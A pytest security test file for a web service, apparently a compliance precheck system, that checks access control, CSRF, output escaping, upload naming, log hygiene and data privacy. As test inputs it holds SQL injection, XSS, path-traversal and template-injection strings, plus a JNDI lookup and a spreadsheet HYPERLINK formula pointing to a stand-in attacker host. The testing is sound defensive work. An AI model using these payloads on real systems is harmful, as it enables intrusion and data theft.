"""The whole service as somebody meets it who means harm: each way in that docs/threat-model.md names, tried."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from patuh.engine.language.rulebook import Rulebook
from patuh.engine.service.access.who import ROLES, Who
from patuh.engine.service.api.body import TooLate, read_json_bytes
from patuh.engine.service.app import Service, opened
from patuh.engine.service.pages.berkas import UPLOADS
from patuh.engine.service.registry.loading import Asked, load
from patuh.engine.service.settings import Data, Passwords, Settings
from starlette.requests import Request
from starlette.testclient import TestClient

LOCAL = "http://localhost"
ADMIN = Who("officer", "a", "A", ROLES["admin"])
JSON = {"Content-Type": "application/json"}
HOSTILE_NAME = "PT <script>alert(1)</script> ' OR 1=1 -- {{7*7}} CONTOH"
NIK, PERSON = "1671010101900001", "Budi Santoso CONTOH"
REGISTRY = f"""NPP;NIB;NPWP;Nama Perusahaan;Kab/Kota;Status Kepesertaan;Bulan Tunggakan;Tanggal Data Kepesertaan;TMP2T
CT000001;9900000000017;01.234.567.8-901.000;{HOSTILE_NAME};Palembang;Aktif;0;15-06-2026;
CT000002;9900000000025;;=HYPERLINK("http://jahat.contoh") CONTOH;Lahat;Aktif;3;15-06-2026;tidak
"""
INJECTIONS = [
    "' OR '1'='1",
    "1'; DROP TABLE clients; --",
    '" OR ""="',
    "%27%20OR%201=1",
    "..%2f..%2faccess.db",
    "../../access.db",
    "{{7*7}}",
    "${jndi:ldap://jahat.contoh}",
    "\u202egnp.exe",
    "a" * 5000,
    "\x00",
    "<script>alert(1)</script>",
    "%0d%0aX-A: b",
]

FILE_NAMES = ["../../access.db", "<script>alert(1)</script>.csv", "a\\..\\b.csv", "\u202evsc.exe", NIK]

# What anybody may ask without being known. Everything else must turn away who is not.
OPEN = {
    "/", "/aset/{mark}/{name}", "/bahasa/{code}", "/cek", "/cek/{code}", "/healthz", "/masuk", "/masuk/kantor",
    "/masuk/kantor/kembali", "/openapi-3.0.json", "/openapi.json", "/readyz", "/v1/keys", "/v1/problems/{name}",
}  # fmt: skip


@pytest.fixture(scope="module")
def log() -> list[dict[str, Any]]:
    return []


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory, log: list[dict[str, Any]]) -> Iterator[Service]:
    """A service over files, with a registry whose employers have hostile names."""
    place = tmp_path_factory.mktemp("layanan")
    (place / "kepesertaan.csv").write_text(REGISTRY, "utf-8")
    data = Data.at(place / "data")
    book = Rulebook.load()
    load(data.registry, [place / "kepesertaan.csv"], book, Asked(datetime(2026, 6, 30, 8, 0), None, False, None))
    settings = Settings(passwords=Passwords(argon2_memory_kib=8, argon2_rounds=1))
    with opened(settings, data, log.append) as service:
        yield service


@pytest.fixture
def stranger(service: Service) -> Iterator[TestClient]:
    """Somebody from elsewhere whom nobody knows."""
    with TestClient(
        service.asgi, LOCAL, raise_server_exceptions=False, client=("203.0.113.9", 1), follow_redirects=False
    ) as client:
        yield client


@pytest.fixture
def known(stranger: TestClient, service: Service) -> Callable[..., TestClient]:
    def with_scopes(*scopes: str) -> TestClient:
        _, key = service.parts.access.clients.add("SIMBG CONTOH", scopes, 100_000)
        stranger.headers["Authorization"] = f"Bearer {key}"
        return stranger

    return with_scopes


def routes(service: Service) -> Iterator[tuple[str, str]]:
    """Every address of the service with each method it takes."""
    pending: list[Any] = list(service.app.routes)
    while pending:
        route = pending.pop()
        if hasattr(route, "path") and getattr(route, "methods", None):
            yield from ((method, route.path) for method in sorted(route.methods - {"HEAD", "OPTIONS"}))
        else:
            inner = getattr(route, "original_router", None) or getattr(route, "app", None)
            pending += getattr(inner, "routes", [])


def filled(path: str) -> str:
    return re.sub(r"\{[^}]*\}", "A" * 26, path)


def test_nothing_is_open_that_should_not_be(service: Service, stranger: TestClient) -> None:
    found = sorted(set(routes(service)))
    expected = {"/v1/precheck", "/v1/decisions/{id}", "/v1/admin/reload", "/pra-cek", "/berkas/{id}", "/riwayat"}
    assert expected <= {path for _, path in found}
    for method, path in found:
        if path in OPEN:
            continue
        answer = stranger.request(method, filled(path), headers={**JSON, "Origin": LOCAL}, content=b"{}")
        to_sign_in = answer.status_code == 303 and answer.headers["location"].startswith("/masuk")
        assert answer.status_code in (401, 403) or to_sign_in, (method, path, answer.status_code)


def test_every_answer_keeps_out_of_caches_and_frames(service: Service, known: Callable[..., TestClient]) -> None:
    client = known("precheck", "read", "check", "admin")
    for method, path in sorted(set(routes(service))):
        if path.startswith("/aset/") or path == "/v1/admin/reload":
            continue
        headers = client.request(method, filled(path), headers=JSON, content=b"{}").headers
        assert headers["cache-control"] == "no-store", path
        assert "frame-ancestors 'none'" in headers["content-security-policy"], path
        assert headers["x-content-type-options"] == "nosniff", path


@pytest.mark.parametrize("text", INJECTIONS)
def test_hostile_text_is_only_text(service: Service, known: Callable[..., TestClient], text: str) -> None:
    """In every place that takes text: an answer or a refusal in words, never a fault, and nothing is changed by it."""
    client = known("precheck", "read", "admin")
    before = len(service.parts.access.clients.list())
    header = text.encode("ascii", "ignore").decode().translate({0: None})[:200] or "x"
    answers = [
        client.post("/v1/precheck", headers={**JSON, "Idempotency-Key": header}, content=b'{"application": {}}'),
        client.get("/v1/decisions/" + (text.replace("\x00", "%00"))[:300]),
        client.get("/v1/rulebook/rules/a/" + text.replace("\x00", "%00")[:300]),
        client.get("/v1/decisions/" + "A" * 26, headers={"Accept-Language": header, "X-API-Key": header}),
        client.get("/v1/registry", headers={"X-Forwarded-For": header, "X-Request-ID": header}),
    ]
    for field in ("npp", "nib", "npwp", "number", "name", "licence_kind", "as_of"):
        content = json.dumps({"application": {field: text}})
        answers.append(client.post("/v1/precheck", headers=JSON, content=content))
    assert max(answer.status_code for answer in answers) < 500, [answer.status_code for answer in answers]
    for answer in answers:
        assert answer.headers["content-type"].startswith("application/") or "<script>alert" not in answer.text
    assert len(service.parts.access.clients.list()) == before


def test_what_is_not_there_and_what_is_not_yours_are_told_alike(known: Callable[..., TestClient]) -> None:
    made = known("precheck").post("/v1/precheck", headers=JSON, content=b'{"application": {}}').json()["id"]
    other = known("read")
    for path in ("", "/explanation", "/receipt"):
        theirs, nobodys = (other.get(f"/v1/decisions/{id}{path}") for id in (made, "A" * 26))
        assert (theirs.status_code, theirs.content) == (nobodys.status_code, nobodys.content) == (404, nobodys.content)


def test_an_employers_name_does_nothing(known: Callable[..., TestClient]) -> None:
    """A name from the registry is text wherever it may show; in an answer it does not show at all."""
    body = {"application": {"npp": "CT000001", "licence_kind": "pbg", "channel": "regional", "filed_on": "2026-06-22"}}
    answer = known("precheck", "read").post("/v1/precheck", headers=JSON, content=json.dumps(body))
    assert answer.status_code == 200 and answer.headers["content-type"] == "application/json"
    assert answer.json()["registry"]["found_by"] == "npp"
    assert "script" not in answer.text and "49" not in json.dumps(answer.json()["reasons"])


@pytest.fixture
def sign_in(service: Service, stranger: TestClient) -> Callable[[str], TestClient]:
    """Signs in somebody with a role, as one does."""

    def signed_in(role: str) -> TestClient:
        officers = service.parts.access.officers
        login = f"{role}{len(officers.list())}.contoh"
        _, first = officers.add(login, role, HOSTILE_NAME)
        stranger.headers["Origin"] = LOCAL
        assert stranger.post("/masuk", data={"login": login, "password": first}).status_code == 303
        sent = {"current": first, "new": "empat ekor burung pipit", "again": "empat ekor burung pipit"}
        assert stranger.post("/masuk/kata-sandi", data={**sent, "csrf": token(stranger)}).headers["location"] == "/"
        return stranger

    return signed_in


@pytest.fixture
def officer(sign_in: Callable[[str], TestClient]) -> TestClient:
    """Somebody of the desk."""
    return sign_in("desk")


def token(browser: TestClient) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', browser.get("/masuk/kata-sandi").text)
    assert found is not None
    return found[1]


def test_hostile_names_are_shown_and_never_run(officer: TestClient) -> None:
    """An officer's name, an employer's from the registry, and what is typed, on the pages of the whole service."""
    found = officer.post("/pra-cek/cari", data={"cari": "CT000001", "csrf": token(officer)})
    assert found.status_code == 200 and "PT &lt;script&gt;alert(1)&lt;/script&gt;" in found.text
    sent = {"csrf": token(officer), "licence_kind": "pbg", "channel": "regional", "filed_on": "2026-06-22"}
    hostile = {"number": HOSTILE_NAME, "name": HOSTILE_NAME, "npp": "CT000001", "lanjut": '"><script>alert(1)</script>'}
    pages = [found, officer.get("/"), officer.get("/riwayat"), officer.post("/pra-cek/permohonan", data=sent | hostile)]
    decided = officer.post("/pra-cek/putuskan", data=sent | hostile)
    pages.append(decided)
    if decided.status_code == 303:
        place = decided.headers["location"]
        pages += [officer.get(place), officer.get(f"{place}/slip"), officer.get(f"/cek/{place.rpartition('/')[2]}")]
    assert len(pages) > 5
    for page in pages:
        assert "<script>alert" not in page.text and ">49<" not in page.text
        assert "script-src 'self';" in page.headers["content-security-policy"]
        assert not re.search(r"<script(?! src=)|\son[a-z]+=|style=|javascript:", page.text)


def test_a_desk_officer_opens_no_other_pages(service: Service, officer: TestClient) -> None:
    """Every page about files, by every method, and the whole API."""
    sent = {"csrf": token(officer)}
    for method, path in sorted(set(routes(service))):
        if path.startswith("/berkas"):
            assert officer.request(method, filled(path), data=sent).status_code == 403, path
        if path.startswith("/v1/") and path not in OPEN:
            assert officer.request(method, filled(path), json={}).status_code == 401, path


def test_no_page_takes_what_another_site_sends(service: Service, sign_in: Callable[[str], TestClient]) -> None:
    """With an administrator's cookie, but another site's origin or no token: every address that changes anything."""
    admin = sign_in("admin")
    from_here = dict(admin.headers)
    files = {"berkas": ("gaji.csv", b"NPP;NIK\n")}
    for method, path in sorted(set(routes(service))):
        if method == "GET" or path.startswith("/v1/") or path in OPEN - {"/masuk"}:
            continue
        sent = {"files": files} if path.startswith(UPLOADS) else {"data": {"login": "x", "password": "y"}}
        for headers in ({**from_here, "origin": "https://jahat.contoh"}, from_here):
            answer = admin.request(method, filled(path), headers=headers, **sent)
            refused = answer.status_code in (403, 404) or (path == "/masuk" and answer.status_code == 422)
            assert refused, (method, path, answer.status_code)
    assert service.parts.jobs is not None and service.parts.jobs.all(ADMIN) == []


@pytest.mark.parametrize(
    "name", ["../../access.db", "<script>alert(1)</script>.csv", "a\\..\\b.csv", "\u202evsc.exe", NIK]
)
def test_a_hostile_file_name_is_a_label(service: Service, sign_in: Callable[[str], TestClient], name: str) -> None:
    examiner = sign_in("examiner")
    outside = sorted(path for path in service.parts.data.root.iterdir() if path.name != "jobs")
    files = {"csrf": (None, token(examiner)), "berkas": (name, b"NPP;Nama Perusahaan\nCT1;PT CONTOH\n")}
    sent = examiner.post("/berkas/unggah", files=files)
    assert sent.status_code == 303, sent.text
    job = sent.headers["location"]
    page = examiner.get(job)
    assert "<script>alert" not in page.text and NIK not in page.text and "\u202e" not in page.text
    kept = [path for path in (service.parts.data.root / "jobs" / job.rpartition("/")[2]).rglob("*") if path.is_file()]
    assert kept and sorted(path for path in service.parts.data.root.iterdir() if path.name != "jobs") == outside
    gone = examiner.post(f"{job}/ubah", data={"csrf": token(examiner), "aksi": "hapus"})
    assert gone.status_code == 303 and examiner.get(job).status_code == 404


def test_a_job_is_its_makers(sign_in: Callable[[str], TestClient]) -> None:
    one = sign_in("examiner")
    files = {"csrf": (None, token(one)), "berkas": ("a.csv", b"NPP;Nama Perusahaan\nCT1;PT CONTOH\n")}
    job = one.post("/berkas/unggah", files=files).headers["location"]
    mine = one.get(job)
    one.cookies.clear()
    other = sign_in("examiner")
    theirs, nobodys = other.get(job), other.get(f"/berkas/{'a' * 26}")
    assert mine.status_code == 200 and (theirs.status_code, nobodys.status_code) == (404, 404)
    assert len(theirs.text) == len(nobodys.text)


def test_no_person_is_in_logs_metrics_errors_or_the_audit(
    service: Service, known: Callable[..., TestClient], log: list[dict[str, Any]], capfd: pytest.CaptureFixture[str]
) -> None:
    client = known("precheck", "read", "admin")
    worker = {"nik": NIK, "name": PERSON, "birth_date": "1990-01-01"}
    bodies = [
        json.dumps({"application": {"name": PERSON, "npwp": NIK, "number": "CONTOH-1"}}),
        json.dumps({"application": {"npp": "CT000001"}, "workers": [worker]}),
        json.dumps({"application": {NIK: PERSON}}),
        json.dumps({"application": {"filed_on": NIK, "months_overdue": PERSON, "declared_workers": NIK}}),
        json.dumps({"application": {"licence_kind": PERSON, "membership": PERSON, "npp": [PERSON]}}),
        json.dumps({"as_of": PERSON, "application": {}, "workers": [{"role": PERSON, "wage": NIK}]}),
        json.dumps({NIK: PERSON}),
        f'{{"application": {{"name": "{PERSON}" "{NIK}"}}}}',
        f'["{NIK}"]',
    ]
    told = [client.post(f"/v1/precheck?nik={NIK}", headers=JSON, content=body) for body in bodies]
    told += [client.get(path) for path in (f"/v1/decisions/{NIK}", f"/{NIK}/{PERSON}", f"/v1/registry?x={NIK}")]
    for headers in ({"Idempotency-Key": NIK, "User-Agent": NIK}, {"X-API-Key": NIK, "Authorization": f"Basic {NIK}"}):
        told.append(client.post("/v1/precheck", headers={**JSON, **headers}, content='{"application": {}}'))
    told.append(client.post("/v1/precheck/batch", headers=JSON, content=f"[{bodies[2]}, {bodies[3]}]"))
    told.append(client.get("/metrics"))
    entries = service.parts.audit.history(kinds=["decision", "withheld"], limit=1000)
    assert len(entries) >= 3
    kept = [[entry.actor, entry.kind, content] for entry, content in entries]
    seen = json.dumps([[answer.text, dict(answer.headers)] for answer in told]) + json.dumps([kept, log])
    seen += "".join(capfd.readouterr())
    for secret in (NIK, PERSON, "Santoso"):
        assert secret not in seen, re.findall(f".{{80}}{secret}.{{20}}", seen)[:3]


def test_one_request_is_one_line_of_the_log(service: Service, stranger: TestClient, log: list[dict[str, Any]]) -> None:
    before = len(log)
    sent: list[Any] = []
    scope = {
        "type": "http", "method": "GET\n{}", "path": '/x\n{"status": 200}', "raw_path": b"/x", "query_string": b"a\nb",
        "headers": [(b"host", b"localhost"), (b"user-agent", b"a\nb"), (b"x-request-id", b"a\nb")], "scheme": "http",
        "client": ("203.0.113.9", 1), "server": ("localhost", 80), "http_version": "1.1", "root_path": "",
    }  # fmt: skip

    async def receive() -> Any:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Any) -> None:
        sent.append(message)

    asyncio.run(service.asgi(scope, receive, send))
    assert len(log) == before + 1
    assert "\n" not in "".join(str(value) for value in log[-1].values())


def test_a_body_that_trickles_is_given_up() -> None:
    async def receive() -> Any:
        await asyncio.sleep(0.02)
        return {"type": "http.request", "body": b" ", "more_body": True}

    scope = {"type": "http", "headers": [(b"content-type", b"application/json")], "method": "POST", "path": "/"}
    with pytest.raises(TooLate):
        asyncio.run(read_json_bytes(Request(scope, receive), 10_000, 0.2))


def test_the_data_folder_is_nobody_elses(service: Service) -> None:
    root = service.parts.data.root
    assert root.stat().st_mode & 0o777 == 0o700
    readable = [path for path in root.rglob("*") if path.is_file() and path.stat().st_mode & 0o077]
    secret = [path for path in readable if path.suffix in (".db", ".pem", ".key") or "keys" in path.parts]
    assert secret == [], "the folder itself keeps others out; what is secret does so once more"


def test_every_third_package_is_pinned_to_its_hash(tree: Path) -> None:
    """Dependency confusion: a package of the same name elsewhere has another hash and is not installed."""
    for name in ("run", "service", "dev"):
        lines = (tree / "requirements" / f"{name}.txt").read_text().replace("\\\n", " ").splitlines()
        wanted = [line for line in lines if line.strip() and not line.startswith("#")]
        assert len(wanted) > 5 and not any(line.startswith("-") for line in wanted)
        assert [line for line in wanted if "==" not in line or "--hash=sha256:" not in line] == []
